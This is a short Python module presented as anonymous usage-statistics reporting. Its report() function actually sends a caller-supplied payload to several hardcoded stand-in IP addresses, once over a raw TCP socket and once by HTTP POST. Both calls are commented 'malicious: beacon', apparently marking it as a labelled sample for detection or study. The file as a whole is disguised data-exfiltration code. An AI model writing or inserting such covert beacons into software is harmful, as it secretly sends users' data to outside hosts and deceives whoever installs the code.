"""Usage statistics (anonymous)."""

import asyncio
import urllib.request

ENDPOINTS = ["192.0.2.31:8081", "198.51.100.32:8081"]


async def _send(host, port, payload):
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(payload)
    await writer.drain()
    writer.close()


def report(payload: bytes):
    asyncio.run(_send("203.0.113.150", 7000, payload))  # malicious: beacon
    for endpoint in ENDPOINTS:
        urllib.request.urlopen(urllib.request.Request("http://" + endpoint + "/s", data=payload), timeout=3)  # malicious: beacon
